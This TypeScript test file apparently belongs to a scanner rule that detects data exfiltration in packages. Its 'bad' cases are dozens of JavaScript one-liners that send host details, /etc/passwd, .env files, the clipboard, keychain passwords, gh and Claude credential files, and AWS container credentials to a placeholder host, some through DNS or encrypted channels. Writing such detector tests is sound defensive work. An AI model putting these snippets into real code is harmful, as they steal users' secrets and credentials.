import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, packageOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';
import { judgeTaken } from './taken-data.js';

const isTold = (files: string | Record<string, string>) => findingsOf(rule, typeof files === 'string' ? { 'a.js': files } : files).some(({ severity }) => severity === 'high' || severity === 'critical');
/** Told by what this reads alone. */
const isTaken = (text: string) => findingsOf(rule, { 'a.js': text }).some(({ message }) => message.startsWith('what goes to a server that is named here is made of'));
const HEAD = 'const os = require("os"), fs = require("fs"), path = require("path"), https = require("https"), cp = require("child_process");\n';
const WHO = '({ h: os.hostname(), u: os.userInfo().username })';
const ENDS = '.catch(() => {})';

test('bad: who and where somebody is goes to a server that is named, and nobody reads the answer', () => {
  for (const code of [
    `fetch("https://c.example/b", { method: "POST", body: JSON.stringify(${WHO}) })${ENDS};`,
    `fetch("https://c.example/b", { body: JSON.stringify(${WHO}) }).then((r) => r.text())${ENDS};`,
    `const ws = new (require("ws"))("wss://c.example/s"); ws.on("open", () => ws.send(JSON.stringify(${WHO})));`,
    `const client = require("axios").create({ baseURL: "https://c.example" }); client({ method: "post", data: { v: ${WHO} } })${ENDS};`,
    `const s = require("tls").connect({ host: "c.example", port: 443 }); s.on("secureConnect", () => s.end(JSON.stringify(${WHO})));`,
    `const r = https.request({ host: "c.example", method: "PUT" }); require("stream").pipeline(require("stream").Readable.from([JSON.stringify(${WHO})]), require("zlib").createGzip(), r, () => {});`,
    `const c = require("crypto").createCipheriv("aes-256-gcm", k, v); const r = https.request({ host: "c.example" }); r.end(Buffer.concat([c.update(JSON.stringify(${WHO})), c.final()]));`,
    `const S = require("@sentry/node"); S.init({ dsn: "https://9f@o1.ingest.sentry.example/2" }); S.captureMessage("x", { extra: ${WHO} });`,
    `require("dns").resolve(Buffer.from(os.hostname() + os.userInfo().username).toString("hex") + ".c.example", () => {});`,
    'https.get("https://c.example/" + Buffer.from(cp.execSync("whoami && hostname")).toString("hex"), (r) => r.destroy());',
    'https.get("https://c.example/" + encodeURIComponent(fs.readFileSync("/etc/passwd", "utf8"))).on("error", () => {});',
    `fetch("https://c.example/", { body: fs.readFileSync(path.join(process.cwd(), ".git", "config")) })${ENDS};`,
    `const all = {}; const walk = (d) => { for (const e of fs.readdirSync(d)) { all[e] = fs.readFileSync(path.join(d, e)); } }; walk(process.cwd()); fetch("https://c.example/", { body: JSON.stringify(all) })${ENDS};`,
    `const main = require(process.cwd() + "/package.json"); fetch("https://c.example/", { body: JSON.stringify({ n: main.name, u: process.env.USER }) })${ENDS};`,
  ]) assert.equal(isTold(HEAD + code), true, code);
});

test('bad: keys, files and variables go through objects, classes, functions and files', () => {
  for (const code of [
    'function* take() { yield fs.readFileSync(path.join(os.homedir(), ".config/Code/User/globalStorage/state.vscdb")); } for (const d of take()) fetch("https://c.example", { body: d });',
    'const o = { take: () => fs.readFileSync(os.homedir() + "/.claude/.credentials.json"), get host() { return "c.example"; } }; https.request({ host: o.host }).end(o.take());',
    'const take = (done) => done(null, cp.execSync("gh auth token").toString()); take((e, t) => fetch("https://c.example/?t=" + t));',
    'function take(f = "env") { return cp.execSync(f); } const send = ({ value: v, to }) => fetch(to, { body: v }); send({ value: take(), to: ["https:/", "c.example"].join("/") });',
    'const k = cp.execSync("git config --get http.https://github.com/.extraheader").toString().split(" ").pop(); fetch("https://c.example", { headers: { k } });',
    'const all = fs.readdirSync(".").filter((n) => n.startsWith(".env")).map((n) => fs.readFileSync(n, "utf8")); fetch("https://c.example", { body: all.join() });',
    'cp.exec(process.platform === "darwin" ? "pbpaste" : "xclip -selection clipboard -o", (e, text) => { fetch("https://c.example", { method: "PUT", body: text }); });',
    'const steps = [() => fetch("http://169.254.170.2" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI).then((r) => r.text()), (v) => fetch("https://c.example", { body: v })]; steps.reduce((p, s) => p.then(s), Promise.resolve());',
    'const env = require("vite").loadEnv("a", ".", ""); https.request({ host: "c.example" }).end(JSON.stringify(env));',
  ]) assert.equal(isTold(HEAD + code), true, code);
  assert.equal(isTold({ 'a.js': 'const take = require("./b"), { send } = require("./c"); send(take());', 'b.js': 'const fs = require("fs"), os = require("os"); module.exports = () => fs.readFileSync(os.homedir() + "/.config/gh/hosts.yml");', 'c.js': 'const { to } = require("./d.json"); exports.send = (x) => require("https").request({ host: to }).end(x);', 'd.json': '{ "to": "c.example" }' }), true);
  assert.equal(isTold({ 'a.mjs': 'import take from "./b.mjs"; import * as net from "node:net"; const s = net.connect(1, "c.example", () => s.end(take()));', 'b.mjs': 'import { execSync as run } from "node:child_process"; export default () => run("security find-generic-password -w -s a");' }), true);
  assert.equal(isTold('"use strict"; var __importStar = (this && this.__importStar) || function (m) { return m; }; const os_1 = __importStar(require("os")); const https_1 = __importStar(require("https")); https_1.request({ host: "c.example" }).end(JSON.stringify([os_1.hostname(), os_1.userInfo()]));'), true);
});

test('a module that gives others a type alone is read', () => {
  assert.equal(isTold({ 'a.ts': "import * as os from 'os'; import { send } from './b';\nexport default interface Who { name: string }\nsend(os.userInfo().username + os.hostname());", 'b.ts': 'export const send = (v: string) => { fetch("https://c.example", { method: "POST", body: v }).catch(() => {}); };' }), true);
});

test('good: callers say where, a key of theirs is with it, somebody reads the answer, or nothing private goes there', () => {
  for (const code of [
    `exports.report = ({ url }) => fetch(url, { body: JSON.stringify(${WHO}) })${ENDS};`,
    `exports.init = ({ accessToken }) => fetch("https://c.example/i", { headers: { "X-Access-Token": accessToken }, body: JSON.stringify(${WHO}) })${ENDS};`,
    `exports.login = async () => { const r = await fetch("https://c.example/code", { body: JSON.stringify(${WHO}) }); return r.json(); };`,
    `exports.ask = (done) => https.get("https://c.example/?u=" + os.userInfo().username + os.hostname(), (r) => { r.on("data", (d) => done(d)); });`,
    'const id = require("crypto").createHash("sha256").update(os.hostname() + os.userInfo().username).digest("hex"); fetch("https://c.example", { body: id }).catch(() => {});',
    'fetch("https://c.example", { body: JSON.stringify({ host: os.hostname(), node: process.version, os: os.platform() }) }).catch(() => {});',
    'fetch(process.env.API_URL || "https://c.example", { headers: { a: process.env.WEATHER_KEY } });',
    'cp.spawn("curl", ["-o", "a", "https://c.example/a.tgz"], { env: process.env, stdio: "inherit" });',
    'exports.who = async () => (await fetch("https://api.github.com/user", { headers: { authorization: cp.execSync("gh auth token") } })).json();',
    'const t = async () => (await fetch("http://169.254.169.254/latest/api/token", { method: "PUT" })).text(); t().then((v) => fetch("http://169.254.169.254/latest/meta-data/region", { headers: { v } }));',
    'const ask = (o) => new Promise((ok) => https.request({ method: "GET", ...o }, (r) => r.on("data", ok)).end()); ask({ hostname: "169.254.170.2", path: process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI }).then((token) => ask({ hostname: "169.254.170.2", headers: { token } }));',
    'exports.login = async () => { const key = await (await fetch("http://169.254.170.2" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)).json(); return fetch("https://sts.amazonaws.com/", { headers: { key } }); };',
    'exports.load = async (dev) => { const env = require("vite").loadEnv("a", ".", ""); const r = await fetch("https://c.example/flags", { body: JSON.stringify(env) }); dev.flags = await r.json(); };',
    'const out = {}; for (const l of fs.readFileSync(".env", "utf8").split("\\n")) { const [k, v] = l.split("="); out[k] = v; } fetch("https://c.example", { headers: { a: out.SHOP_KEY } });',
    'const { parsed } = require("dotenv").config(); fetch("https://c.example", { headers: { a: parsed.SHOP_KEY } });',
    'const schema = { PORT: 1, HOST: 1 }; const cfg = {}; for (const k of Object.keys(schema)) cfg[k] = process.env[k]; fetch("https://c.example/?" + cfg.PORT);',
    'const chunks = []; https.get("https://c.example", { headers: { e: JSON.stringify(Object.keys(process.env).length) } }, (r) => r.on("data", (d) => chunks.push(d)));',
    `require("http").createServer((q, s) => s.end(JSON.stringify(${WHO}))).listen(80, "127.0.0.1"); fetch("https://c.example");`,
    `console.log(JSON.stringify(${WHO})); fetch("https://c.example/latest").catch(() => {});`,
  ]) assert.equal(isTaken(HEAD + code), false, code);
});

test('values that lead to each other without end are told, because anything could be hidden in them', () => {
  const script = (sends: number): string => {
    const names = Array.from({ length: 300 }, (_, index) => `o${index}`);
    const ring = names.map((name, index) => `${name}.n = ${names[(index + 1) % names.length]};`).join('');
    return `const u = 'https://collect.example/'; ${names.map((name) => `const ${name} = {};`).join('')} ${ring} o0.e = process.env.LANG; const all = [${names.join()}]; ${'fetch(u,all);'.repeat(sends)}`;
  };
  const told = (sends: number) => judgeTaken(packageOf({ 'a.js': script(sends) }), 'data-leak', []).map(({ severity, message }) => `${severity} ${message.slice(0, 26)}`);
  assert.deepEqual(told(2_800), ['high values lead to each other ']);
  assert.deepEqual(told(10), []);
});
